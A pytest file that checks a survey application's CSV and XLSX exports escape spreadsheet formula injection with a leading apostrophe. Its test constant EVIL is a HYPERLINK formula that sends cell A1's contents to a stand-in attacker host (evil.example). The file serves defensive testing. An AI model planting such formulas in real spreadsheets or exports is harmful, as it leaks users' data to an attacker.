"""CSV/XLSX formula injection: text a spreadsheet would run as a formula is written with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest

from survey.services.common.spreadsheet import csv_style, csv_value, safe_cell, to_csv, xlsx_cell
from survey.services.sampling import slips
from survey.services.workspace import publishing
from tests.workspace.conftest import build_world, sign_in

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Sở Xây dựng", "T-SXD", "a=b", "", -3, 2.5, None])
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_xlsx_cells_also_lose_the_control_characters_xlsx_cannot_hold():
    assert xlsx_cell("\x01=1+1") == "'=1+1" and xlsx_cell("a\tb\nc") == "a\tb\nc"


def test_to_csv_neutralises_header_and_cells():
    text = to_csv(["=x", "name"], [{"=x": 1, "name": EVIL}, ["-1", None]]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows == [["'=x", "name"], ["1", "'" + EVIL], ["'-1", ""]]


@pytest.mark.parametrize(
    "value, vi, intl",
    [
        (85.4321, "85,4321", "85.4321"),
        (-2.5, "-2,5", "-2.5"),
        (90.0, "90", "90"),
        (10188, 10188, 10188),
        (1 / 3, "0,3333333333333333", "0.3333333333333333"),
        (float("nan"), "", ""),
        (None, "", ""),
        (True, 1, 1),
        (date(2025, 8, 1), "01/08/2025", "2025-08-01"),
        (datetime(2025, 8, 1, 14, 5), "01/08/2025 14:05", "2025-08-01 14:05"),
    ],
)
def test_csv_cells_use_the_styles_decimal_sign_and_date_order_at_full_precision(value, vi, intl):
    assert csv_value(value, "vi") == vi and csv_value(value, "intl") == intl


def test_numbers_are_never_rewritten_as_text_but_text_that_looks_like_a_formula_is():
    text = to_csv(["a", "b", "c"], [[-1.5, "-1,5", "=1"]], "vi").decode("utf-8-sig")
    assert text.splitlines()[1] == "-1,5;'-1,5;'=1"
    text = to_csv(["a", "b"], [[1.5, "x,y"]], "intl").decode("utf-8-sig")
    assert text.splitlines()[1] == '1.5,"x,y"'  # the separator inside text is quoted, not split


@pytest.mark.parametrize(
    "asked, style", [(None, "vi"), ("", "vi"), ("vi", "vi"), ("intl", "intl"), ("excel", None), ("INTL", None)]
)
def test_only_the_two_csv_styles_are_accepted(asked, style):
    assert csv_style(asked) == style


@pytest.fixture
def evil_registry(db_session):
    """The world with an agency named like a formula, an agency code and a service point code that start one,
    published after the renaming (the microdata carries the codes frozen with the publication)."""
    world = build_world(db_session, publish=False)
    world["land"].name_vi = world["land"].name_en = EVIL
    world["build"].code = "+SUM(1)"
    world["centre"].code = "-2+3"
    db_session.flush()
    publishing.publish(db_session, "test", world["wave"])
    return world


def test_index_csv_and_xlsx_show_an_agency_named_like_a_formula_as_text(client, evil_registry, analyst):
    from openpyxl import load_workbook

    sign_in(client, "phan.tich")
    text = client.get("/analyst/export/index.csv").data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    names = [r[2] for r in rows if r[0] == "agency"]
    assert "'" + EVIL in names and EVIL not in names
    wb = load_workbook(io.BytesIO(client.get("/analyst/export/index.xlsx").data))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert "'" + EVIL in [c.value for c in wb["agency"]["C"]]
    english = load_workbook(io.BytesIO(client.get("/analyst/export/index.xlsx?lang=en").data))
    assert "'" + EVIL in [c.value for c in english["agency"]["C"]]  # the English name too
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula in the workbook


def test_microdata_and_codebook_csv_neutralise_codes_that_start_a_formula(client, evil_registry, analyst):
    sign_in(client, "phan.tich")
    text = client.get("/analyst/export/microdata.csv").data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    cells = [c for r in rows[1:] for c in r]
    assert "'+SUM(1)" in cells and "'-2+3" in cells
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]  # microdata has no negative numbers
    book = client.get("/analyst/export/codebook.csv").data.decode("utf-8")
    assert not [c for r in csv.reader(io.StringIO(book[1:]), delimiter=";") for c in r if c and c[0] in "=+-@\t\r"]


def test_links_and_sms_files_neutralise_registry_names(app, tmp_path):
    item = {
        "invitation_id": 1,
        "token": "t",
        "url": "https://ks.example/s/t",
        "wave": "@W1",
        "agency": EVIL,
        "service_point": "-Quầy 1",
        "service_point_code": "SP1",
        "outcome": "approved",
        "expires": "01/01/2026",
        "phone": "0912345678",
    }
    with app.test_request_context():
        written = slips.write_bundle(str(tmp_path), [item], slips=False)
    assert written["links"] == 1 and written["sms"] == 1
    with open(tmp_path / "links.csv", encoding="utf-8-sig") as fh:
        links = list(csv.DictReader(fh))
    assert links[0]["agency"] == "'" + EVIL and links[0]["service_point"] == "'-Quầy 1" and links[0]["wave"] == "'@W1"
    slips.write_sms_csv(
        str(tmp_path / "sms.csv"),
        [
            {
                "invitation_id": 1,
                "phone": "0912345678",
                "message": "=1+1",
                "message_ascii": "+1",
                "link": "l",
                "expires": "e",
            }
        ],
    )
    with open(tmp_path / "sms.csv", encoding="utf-8-sig") as fh:
        sms = next(csv.DictReader(fh))
    assert sms["message"] == "'=1+1" and sms["message_ascii"] == "'+1" and sms["phone"] == "0912345678"
